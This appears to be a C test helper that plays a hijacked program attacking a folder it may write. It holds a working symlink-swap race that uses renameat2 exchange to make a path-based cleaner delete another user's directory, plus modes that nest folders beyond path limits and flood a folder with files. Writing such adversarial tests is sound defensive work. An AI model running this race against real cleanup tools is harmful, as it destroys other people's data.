/** What a program that was taken over does to the folder that it may write, on purpose. evil WHAT FOLDER [ARGUMENT] */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define PAIRS 4
#define EXCHANGES 500

static bool is_there(const char *name) {
  struct stat facts;
  return lstat(name, &facts) == 0;
}

/** A folder whose files have the names of those that are to be lost. Made apart: its name may be that of a link by now. */
static void make_bait(const char *name) {
  static unsigned made;
  char apart[32], path[64];
  snprintf(apart, sizeof apart, "apart-%u", made++);
  mkdir(apart, 0700);
  for (int i = 0; i < 8; i++) {
    snprintf(path, sizeof path, "%s/secret-%d", apart, i);
    close(open(path, O_CREAT | O_WRONLY, 0600));
  }
  rename(apart, name);
}

/** Has folders and links to a folder of someone else change places, for whoever empties this one by paths. */
_Noreturn static void swap(const char *victim) {
  char folders[PAIRS][8], links[PAIRS][8];
  for (int i = 0; i < PAIRS; i++) {
    snprintf(folders[i], sizeof *folders, "f%d", i);
    snprintf(links[i], sizeof *links, "l%d", i);
  }
  for (;;) {
    for (int i = 0; i < PAIRS; i++) {
      if (!is_there(folders[i])) make_bait(folders[i]);
      if (!is_there(links[i]) && symlink(victim, links[i])) continue;
    }
    for (int n = 0; n < EXCHANGES; n++) {
      syscall(SYS_renameat2, AT_FDCWD, folders[n % PAIRS], AT_FDCWD, links[n % PAIRS], 2 /* RENAME_EXCHANGE */);
    }
  }
}

/** Folders in folders, far longer than a path may be. */
static int dig(long depth) {
  for (long i = 0; i < depth; i++) {
    if (mkdir("deeper-and-deeper", 0700) || chdir("deeper-and-deeper")) return 1;
  }
  return 0;
}

static int fill(long count) {
  for (long i = 0; i < count; i++) {
    char name[32];
    snprintf(name, sizeof name, "empty-%ld", i);
    const int file = open(name, O_CREAT | O_WRONLY, 0600);
    if (file < 0) return 1;
    close(file);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 4 || chdir(argv[2])) return 2;
  if (!strcmp(argv[1], "swap")) swap(argv[3]);
  if (!strcmp(argv[1], "dig")) return dig(atol(argv[3]));
  if (!strcmp(argv[1], "fill")) return fill(atol(argv[3]));
  return 2;
}
